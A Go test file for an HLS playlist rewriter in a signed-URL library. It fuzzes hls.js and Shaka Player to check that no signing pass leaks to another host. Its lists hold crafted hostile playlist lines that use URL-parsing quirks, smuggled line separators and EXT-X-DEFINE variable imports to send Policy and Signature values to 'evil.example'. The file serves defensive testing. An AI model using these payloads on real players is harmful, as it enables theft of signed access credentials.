package peers

import (
	"encoding/json"
	"errors"
	"math/rand/v2"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/signedfront/signedfront/signer"
	"github.com/signedfront/signedfront/signer/hls"
)

// reading is the input of testdata/players.mjs.
type reading struct {
	URL       string   `json:"url"`     // from which the player loaded the playlists
	Origins   []string `json:"origins"` // the hosts that may get the pass
	Secrets   []string `json:"secrets"` // no 12 bytes of these may reach another host
	Playlists []string `json:"playlists"`
}

// verdict is the output of testdata/players.mjs.
type verdict struct {
	Read   map[string]int `json:"read"`   // URLs, by player
	Signed map[string]int `json:"signed"` // those of them that carry a pass to one of the origins
	Stolen []struct {
		Player string `json:"player"`
		Index  int    `json:"index"` // of the playlist
		URL    string `json:"url"`
	} `json:"stolen"`
}

// readWithPlayers makes hls.js and Shaka Player read playlists that an application
// serves at a URL signed with the pass itself.
func readWithPlayers(t *testing.T, pass *signer.Pass, playlists []string) verdict {
	t.Helper()
	_, params, _ := strings.Cut(must[string](t)(pass.URL(pass.Prefix())), "?")
	input := must[[]byte](t)(json.Marshal(reading{
		URL:       "https://app.example.com/watch/list.m3u8?" + params,
		Origins:   []string{site, "https://app.example.com"},
		Secrets:   parameters(params),
		Playlists: playlists,
	}))
	var v verdict
	if err := json.Unmarshal([]byte(run(t, string(input), "node", filepath.Join(node(t), "players.mjs"))), &v); err != nil {
		t.Fatal(err)
	}
	return v
}

// parameters returns the values of the pass's parameters.
func parameters(params string) (values []string) {
	for param := range strings.SplitSeq(params, "&") {
		_, value, _ := strings.Cut(param, "=")
		values = append(values, value)
	}
	return values
}

func passFor(t *testing.T, prefix string) *signer.Pass {
	t.Helper()
	return must[*signer.Pass](t)(ours(t, ecdsaKey(), signer.Options{Now: time.Now}).OpenAll(t.Context(), prefix, signer.Policy{TTL: time.Hour}))
}

func TestNoURLOfAnotherHostHoldsAPartOfThePassAsPlayersReadIt(t *testing.T) {
	for _, prefix := range []string{site + "/movies/7/", site + "/"} {
		t.Run(prefix, func(t *testing.T) {
			pass := passFor(t, prefix)
			_, params, _ := strings.Cut(must[string](t)(pass.URL(prefix)), "?")
			variables := map[string]string{"token": "a%20b"}
			for param := range strings.SplitSeq(params, "&") {
				name, value, _ := strings.Cut(param, "=")
				variables[name] = value // as in an application that forwards its whole query
			}
			r := rand.New(rand.NewPCG(7, uint64(len(prefix))))
			const generated = 10_000
			var playlists, rewritten []string
			refused := 0
			for range generated {
				text := randomPlaylist(r, prefix)
				o := &hls.Options{Variables: variables, Playlist: furtherPlaylists(r, pass)}
				var b strings.Builder
				err := hls.Rewrite(&b, strings.NewReader(text), site+"/movies/7/720p/index.m3u8", pass, o)
				if lineErr := new(hls.LineError); err != nil && !errors.As(err, &lineErr) {
					t.Fatalf("%q: %v", text, err)
				}
				if err != nil {
					refused++
				}
				// Players also get what was written before an error.
				if b.Len() > 0 {
					playlists, rewritten = append(playlists, text), append(rewritten, b.String())
				}
			}
			v := readWithPlayers(t, pass, rewritten)
			for i, stolen := range v.Stolen {
				if i == 5 {
					t.Fatalf("and %d more", len(v.Stolen)-i)
				}
				t.Errorf("%s reads %.300q\nin %q\nwhich was %q", stolen.Player, stolen.URL, rewritten[stolen.Index], playlists[stolen.Index])
			}
			t.Logf("%d playlists, %d refused; URLs read: %v, of them signed: %v", generated, refused, v.Read, v.Signed)
			if refused > generated*9/10 || refused < generated/20 {
				t.Errorf("%d of %d playlists are refused: they show little", refused, generated)
			}
			for player, n := range v.Signed {
				if n < generated/4 {
					t.Errorf("%s read %d signed URLs in %d playlists: they show little", player, n, generated)
				}
			}
		})
	}
}

// These playlists are the results of a careless rewriting of hostile ones.
func TestPlayersGiveThePassToAnotherHostWhereALineIsNotStrict(t *testing.T) {
	pass := passFor(t, site+"/movies/7/")
	key := must[string](t)(pass.URL(site + "/movies/7/k"))
	_, params, _ := strings.Cut(key, "?")
	const media = "#EXTM3U\n#EXT-X-TARGETDURATION:6\n"
	tests := []struct {
		what, playlist string
		players        string
	}{
		{"a line separator", media + "#EXT-X-KEY:METHOD=AES-128,X=\"\u2028https://evil.example/?\",URI=\"" + key + "\"\n#EXTINF:6,\na.ts\n", "hls.js"},
		{"text after a quotation mark", media + `#EXT-X-MAP:URI="https://evil.example/?"b,X="` + key + "\"\n#EXTINF:6,\na.ts\n", "hls.js"},
		{"a definition inside a line", "#EXTM3U\n#EXT-X-KEY:X=\"#EXT-X-DEFINE:NAME=a,VALUE=\",URI=\"" + key + "\"\n#EXT-X-STREAM-INF:BANDWIDTH=1\nhttps://evil.example/{$a}\n", "hls.js"},
		{"a variable of the signature", media + "#EXT-X-DEFINE:QUERYPARAM=\"Signature\"\n#EXTINF:6,\nhttps://evil.example/{$Signature}\n", "hls.js and Shaka Player"},
		{"a variable with escaped braces", "#EXTM3U\n#EXT-X-DEFINE:NAME=\"v\",VALUE=\"/evil.example\"\n#EXT-X-STREAM-INF:BANDWIDTH=1\n/%7B$v%7D/v.m3u8?" + params + "\n", "Shaka Player"},
		{"a definition after a slash", media + "/EXT-X-DEFINE:QUERYPARAM=\"Policy\"\n#EXTINF:6,\nhttps://evil.example/{$Policy}\n", "Shaka Player"},
	}
	var playlists []string
	for _, test := range tests {
		playlists = append(playlists, test.playlist)
	}
	stolen := make([][]string, len(tests))
	for _, s := range readWithPlayers(t, pass, playlists).Stolen {
		stolen[s.Index] = append(stolen[s.Index], s.Player)
	}
	for i, test := range tests {
		if got := strings.Join(stolen[i], " and "); got != test.players {
			t.Errorf("%s: given away by %q, want %q", test.what, got, test.players)
		}
	}
}

// furtherPlaylists returns one of the functions that an application may use.
func furtherPlaylists(r *rand.Rand, pass *signer.Pass) func(hls.Reference) (string, error) {
	switch r.IntN(7) {
	case 0:
		return nil
	case 1, 2:
		return func(hls.Reference) (string, error) { return "", nil }
	case 3, 4:
		return func(p hls.Reference) (string, error) {
			name, ok := strings.CutPrefix(p.URL, pass.Prefix())
			if !ok {
				return "", nil
			}
			return "/watch/" + name, nil
		}
	}
	// A program on the content's own host also signs further playlists.
	isRelative := oneIn(r, 2)
	return func(p hls.Reference) (string, error) {
		if !pass.Covers(p.URL) {
			return "", nil
		}
		signed, err := pass.URL(p.URL)
		if isRelative {
			signed = strings.TrimPrefix(signed, site)
		}
		return signed, err
	}
}

// pick returns one of some strings.
func pick(r *rand.Rand, from []string) string { return from[r.IntN(len(from))] }

// oneIn returns true once in n times.
func oneIn(r *rand.Rand, n int) bool { return r.IntN(n) == 0 }

var (
	ourURIs = []string{
		"s.ts", "a/b.ts", "../x.mp4", "/movies/7/k", site + "/movies/7/i.mp4", "//" + site[len("https://"):] + "/movies/7/y", "s.ts?x=1",
		"{$here}s.ts", "{$host}/movies/7/z", "s.ts?t={$token}", "%7B$theirs%7D/s.ts", "/%7B$theirs%7D/v.m3u8", "s,1;2.ts", ".a", "?x=1",
	}
	otherURIs = []string{
		"https://evil.example/x", "https://evil.example/?", "//evil.example/x", "///evil.example/x", "https:evil.example/x", "HTTPS:evil.example", "hTTps://evil.example/",
		`\\evil.example/`, `/\evil.example/`, `\/evil.example/`, "/\t/evil.example/", "https:\\\\evil.example\\", "https://u:p@evil.example/", "https:///evil.example/",
		site + "@evil.example/movies/7/x", site + ":x@evil.example/movies/7/", site + ".evil.example/movies/7/x", site + `\.evil.example/movies/7/`, "https://evil.example\\@" + site[len("https://"):] + "/movies/7/",
		"{$theirs}", "{$theirs}/?", "https://evil.example/{$Policy}", "https://evil.example/?{$Signature}", "https://evil.example/?{$Key-Pair-Id}{$v}", "https://evil.example/%7B$Policy%7D", "{$v}",
		"data:text/plain,x", "skd://x", "", "#x", "https://evil.example/#", "\ufeffhttps://evil.example/", "\u00a0//evil.example/", "javascript:x",
	}
	blanks    = []string{" ", "\t", "\r", "\v", "\f", "\x00", "\u0085", "\u00a0", "\u2028", "\u2029", "\ufeff", "\x1f", "\x7f", "\u3000", "\xff", "\r\r"}
	endings   = []string{"\n", "\n", "\n", "\n", "\n", "\r\n", "\r\n", "\r", "\n\n", "\u2028", " \n", "\t\n"}
	mediaTags = []string{"EXT-X-KEY", "EXT-X-MAP", "EXT-X-PART", "EXT-X-PRELOAD-HINT", "EXT-X-RENDITION-REPORT", "EXT-X-DATERANGE", "EXT-X-SESSION-DATA"}
	mainTags  = []string{"EXT-X-MEDIA", "EXT-X-SESSION-KEY", "EXT-X-SESSION-DATA", "EXT-X-I-FRAME-STREAM-INF", "EXT-X-IMAGE-STREAM-INF", "EXT-X-CONTENT-STEERING", "EXT-X-KEY", "EXT-X-MAP"}
	// The attributes without which players skip a tag.
	needs = map[string]string{
		"EXT-X-KEY":                "METHOD=AES-128,",
		"EXT-X-SESSION-KEY":        "METHOD=AES-128,",
		"EXT-X-PART":               "DURATION=1,",
		"EXT-X-PRELOAD-HINT":       "TYPE=PART,",
		"EXT-X-DATERANGE":          `ID="1",START-DATE="2026-07-01T12:00:00Z",CLASS="com.apple.hls.interstitial",`,
		"EXT-X-SESSION-DATA":       `DATA-ID="com.apple.hls.chapters",`,
		"EXT-X-MEDIA":              `TYPE=AUDIO,GROUP-ID="a",NAME="a",`,
		"EXT-X-I-FRAME-STREAM-INF": `BANDWIDTH=1,CODECS="avc1.42E01E",`,
		"EXT-X-IMAGE-STREAM-INF":   `BANDWIDTH=1,RESOLUTION=16x9,`,
	}
	attributeNames = []string{"X", "X-A", "X-B", "KEYFORMAT", "IV", "NAME", "X-ASSET-URI", "X-ASSET-LIST", "BYTERANGE", "URI", "SERVER-URI", "VALUE", "QUERYPARAM"}
	wrongNames     = []string{"uri", " URI", "\u00a0URI", "", "\"URI\"", "X\tURI"}
	tricks         = []string{
		`"`, `",`, `"b`, `"b,`, `=`, `,`, `=",`, `",URI="`, `",URI="https://evil.example/?`, `"b,X="`, `URI=`, `#`, `#EXT`,
		"#EXT-X-DEFINE:NAME=v,VALUE=", "#EXT-X-DEFINE:NAME=\"v\",VALUE=\"", "#EXT-X-DEFINE:QUERYPARAM=\"Policy\"", "EXT-X-DEFINE:QUERYPARAM=Signature",
		"#EXT-X-MAP:URI=", "#EXT-X-MEDIA:TYPE=AUDIO,URI=", "#EXT-X-I-FRAME-STREAM-INF:URI=https://evil.example/", "#EXT-X-STREAM-INF:BANDWIDTH=1", "#EXTINF:6,", "#EXT-X-KEY:METHOD=AES-128,URI=",
		"\u2028https://evil.example/?", "\rhttps://evil.example/?", "\vhttps://evil.example/?", "\u0085https://evil.example/?", "\u2029//evil.example/?", "\nhttps://evil.example/?",
		"$&", "$'", "$`", "{$", "}", "{$v}", "%7B", "%7D", "\\", "//", "@", "?",
	}
	definitions = [][]string{
		{`#EXT-X-DEFINE:NAME="here",VALUE="x/"`},
		{`#EXT-X-DEFINE:NAME="host",VALUE="` + site + `"`},
		{`#EXT-X-DEFINE:NAME="theirs",VALUE="https://evil.example"`, `#EXT-X-DEFINE:NAME="theirs",VALUE="//evil.example/$'"`},
		{"#EXT-X-DEFINE:NAME=\"v\",VALUE=\"https://evil.example/?$`\"", `#EXT-X-DEFINE:NAME="v",VALUE="{$theirs}"`},
		{`#EXT-X-DEFINE:QUERYPARAM="token"`, `#EXT-X-DEFINE:IMPORT="token"`},
	}
	hostileDefinitions = []string{
		`#EXT-X-DEFINE:QUERYPARAM="Policy"`, `#EXT-X-DEFINE:IMPORT="Signature"`, `#EXT-X-DEFINE:QUERYPARAM=Signature`, `#EXT-X-DEFINE: QUERYPARAM="Key-Pair-Id"`,
		`#EXT-X-DEFINE:NAME="v",QUERYPARAM="Policy"`, `#EXT-X-DEFINE:NAME="p",VALUE="Pol"`, `#EXT-X-DEFINE:QUERYPARAM="{$p}icy"`,
		`/EXT-X-DEFINE:QUERYPARAM="Policy"`, ` #EXT-X-DEFINE:QUERYPARAM="Signature"`, `##EXT-X-DEFINE:QUERYPARAM="Policy"`,
	}
)

// Playlists that make a player leak the pass if one check is missing.
var (
	hostileMedia = [][]string{
		{"#EXT-X-KEY:METHOD=AES-128,X=\"\u2028https://evil.example/?\",URI=\"k\""},
		{"#EXT-X-MAP:X=\"\rhttps://evil.example/?\",URI=\"i\""},
		{`#EXT-X-KEY:METHOD=AES-128,URI="https://evil.example/?"b,URI="k"`},
		{`#EXT-X-MAP:URI="https://evil.example/?"b,URI="i"`},
		{`#EXT-X-PRELOAD-HINT:TYPE=PART,X="https://evil.example/?"b,URI="p"`},
		{`#EXT-X-DATERANGE:ID="1",START-DATE="2026-07-01T12:00:00Z",X-ASSET-URI="https://evil.example/?"b,X-ASSET-LIST="l.json"`},
		{`#EXT-X-DEFINE:QUERYPARAM="Policy"`, "#EXTINF:6,", "https://evil.example/{$Policy}"},
		{`#EXT-X-DEFINE:IMPORT="Signature"`, "#EXTINF:6,", "https://evil.example/{$Signature}"},
		{`#EXT-X-DEFINE:NAME="p",VALUE="Pol"`, `#EXT-X-DEFINE:QUERYPARAM="{$p}icy"`, "#EXTINF:6,", "https://evil.example/{$Policy}"},
		{`#EXT-X-DEFINE:NAME="a"QUERYPARAM="Policy",VALUE="b"`, "#EXTINF:6,", "https://evil.example/{$Policy}"},
		{`/EXT-X-DEFINE:QUERYPARAM="Policy"`, "#EXTINF:6,", "https://evil.example/{$Policy}"},
		{"#x\r#EXT-X-DEFINE:QUERYPARAM=\"Policy\"", `#EXT-X-MAP:URI="//evil.example/{$Policy}"`, "#EXTINF:6,", "s.ts"},
	}
	hostileMain = [][]string{
		{`#EXT-X-SESSION-DATA:DATA-ID="a",X="https://evil.example/?"b,URI="d.json"`},
		{"#EXT-X-SESSION-KEY:METHOD=AES-128,X=\"\u2029#EXT-X-MEDIA:TYPE=AUDIO,URI=https://evil.example/?\",URI=\"k\""},
		{`#EXT-X-KEY:X="#EXT-X-DEFINE:NAME=w,VALUE=",URI="k"`, "#EXT-X-STREAM-INF:BANDWIDTH=1", "https://evil.example/{$w}"},
		{`##EXT-X-DEFINE:QUERYPARAM="Policy"`, "#EXT-X-STREAM-INF:BANDWIDTH=1", "https://evil.example/{$Policy}"},
		{`#EXT-X-DEFINE:NAME="h",VALUE="/evil.example"`, "#EXT-X-STREAM-INF:BANDWIDTH=1", "/%7B$h%7D/v.m3u8"},
		{`#EXT-X-MEDIA:TYPE=AUDIO,GROUP-ID="a",NAME="a",URI="https://evil.example/?"b,URI="a.m3u8"`, "#EXT-X-STREAM-INF:BANDWIDTH=1,AUDIO=\"a\"", "v.m3u8"},
	}
)

func randomURI(r *rand.Rand) string {
	if oneIn(r, 3) {
		return pick(r, otherURIs)
	}
	return pick(r, ourURIs)
}

func randomTag(r *rand.Rand, names []string) string {
	name := pick(r, names)
	attributes := []string{}
	if n := strings.TrimSuffix(needs[name], ","); n != "" {
		attributes = append(attributes, n)
	}
	uri := "URI"
	switch {
	case name == "EXT-X-CONTENT-STEERING":
		uri = "SERVER-URI"
	case name == "EXT-X-DATERANGE":
		uri = pick(r, []string{"X-ASSET-URI", "X-ASSET-LIST"})
	}
	attributes = append(attributes, uri+`="`+randomURI(r)+`"`)
	for range r.IntN(4) {
		value := "a"
		switch r.IntN(5) {
		case 0:
			value = pick(r, tricks)
		case 1:
			value = randomURI(r)
		}
		switch r.IntN(24) {
		case 0:
			value = strings.Trim(value, `"`)
		case 1:
			value = `"` + value + `"` + pick(r, append(blanks, "b", `"`))
		case 2:
			value = `"` + value
		default:
			value = `"` + value + `"`
		}
		attribute := pick(r, attributeNames)
		if oneIn(r, 40) {
			attribute = pick(r, wrongNames)
		}
		attributes = append(attributes, attribute+"="+value)
	}
	if oneIn(r, 2) {
		r.Shuffle(len(attributes), func(i, j int) { attributes[i], attributes[j] = attributes[j], attributes[i] })
	}
	separator := ","
	if oneIn(r, 30) {
		separator = pick(r, []string{", ", ",,", "b,", " ,", ""})
	}
	return "#" + name + ":" + strings.Join(attributes, separator)
}

// randomPlaylist returns a media or multivariant playlist, or a mixture, sometimes
// with a trick in one of its lines.
func randomPlaylist(r *rand.Rand, prefix string) string {
	lines := []string{"#EXTM3U"}
	isMedia := !oneIn(r, 3)
	if isMedia {
		lines = append(lines, "#EXT-X-TARGETDURATION:6")
		if oneIn(r, 2) {
			lines = append(lines, "#EXT-X-PROGRAM-DATE-TIME:2026-07-01T12:00:00Z")
		}
	}
	for _, d := range definitions {
		if !oneIn(r, 20) {
			lines = append(lines, pick(r, d))
		}
	}
	switch {
	case !oneIn(r, 4):
	case isMedia:
		lines = append(lines, hostileMedia[r.IntN(len(hostileMedia))]...)
	default:
		lines = append(lines, hostileMain[r.IntN(len(hostileMain))]...)
	}
	for range r.IntN(5) {
		switch {
		case oneIn(r, 20):
			lines = append(lines, pick(r, hostileDefinitions))
		case oneIn(r, 12):
			lines = append(lines, "#"+pick(r, tricks)+pick(r, otherURIs))
		case isMedia && oneIn(r, 2):
			lines = append(lines, "#EXTINF:6,"+pick(r, []string{"", "", "title", pick(r, tricks)}), randomURI(r))
		case isMedia:
			lines = append(lines, randomTag(r, mediaTags))
		case oneIn(r, 2):
			lines = append(lines, `#EXT-X-STREAM-INF:BANDWIDTH=1,CODECS="avc1.42E01E,mp4a.40.2",AUDIO="a"`, randomURI(r))
		default:
			lines = append(lines, randomTag(r, mainTags))
		}
	}
	if isMedia && oneIn(r, 2) {
		lines = append(lines, "#EXTINF:6,", "s.ts", "#EXT-X-ENDLIST")
	}
	// Most playlists get only one change, so that not all are refused.
	if at := r.IntN(len(lines)); oneIn(r, 2) {
		line := lines[at]
		cut := r.IntN(len(line) + 1)
		switch r.IntN(5) {
		case 0:
			lines[at] = line[:cut] + pick(r, blanks) + line[cut:]
		case 1:
			lines[at] = line[:cut] + pick(r, tricks) + line[cut:]
		case 2:
			lines[at] = pick(r, blanks) + line
		case 3:
			lines[at] = line[:cut] + line[min(cut+1, len(line)):]
		case 4:
			lines[at] = line + pick(r, blanks)
		}
	}
	var b strings.Builder
	ending := pick(r, []string{"\n", "\r\n"})
	for _, line := range lines {
		b.WriteString(line)
		if oneIn(r, 60) {
			b.WriteString(pick(r, endings))
		} else {
			b.WriteString(ending)
		}
	}
	return strings.ReplaceAll(b.String(), site+"/movies/7/", prefix)
}
